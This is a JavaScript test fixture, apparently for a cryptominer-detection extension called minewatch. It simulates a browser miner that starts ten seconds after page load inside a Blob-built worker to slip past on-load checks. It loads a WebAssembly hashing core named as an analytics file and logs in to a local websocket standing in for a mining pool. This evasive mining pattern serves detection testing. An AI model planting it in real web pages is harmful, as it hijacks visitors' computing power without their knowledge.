// The same miner, started 10 s after load inside a worker made from a Blob (after any
// on-load check has run): the worker fetches the core, opens its own websocket to the pool and
// reports its hashes to the page. For minewatch's extension tests only.
window.__test = { hashes: 0, lastHash: 0, workerStarted: 0, errors: [] };
setTimeout(() => {
  const src = `
    let core, hb, ws, job = null;
    onmessage = async (e) => {
      const bytes = await (await fetch(e.data.wasm)).arrayBuffer();
      core = (await WebAssembly.instantiate(bytes, {})).instance.exports;
      hb = core.__heap_base.value;
      ws = new WebSocket(e.data.pool);
      ws.onopen = () => ws.send(JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'w', pass: 'x', agent: 'bg/1.0' } }));
      ws.onmessage = (m) => { const d = JSON.parse(m.data); if (d.result && d.result.job) job = d.result.job; };
      for (;;) {
        for (let i = 0; i < 4; i++) core.cn_hash(hb, 76, hb + 128, 1 << 12);
        postMessage(4);
        await new Promise((r) => setTimeout(r, 0));
      }
    };`;
  try {
    const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
    __test.workerStarted = Date.now();
    w.onmessage = (e) => { __test.hashes += e.data; __test.lastHash = Date.now(); };
    w.postMessage({ wasm: location.origin + '/static/vendor/analytics-core.wasm', pool: 'ws://' + location.host + '/socket' });
  } catch (e) {
    __test.errors.push(String(e));
  }
}, 10000);
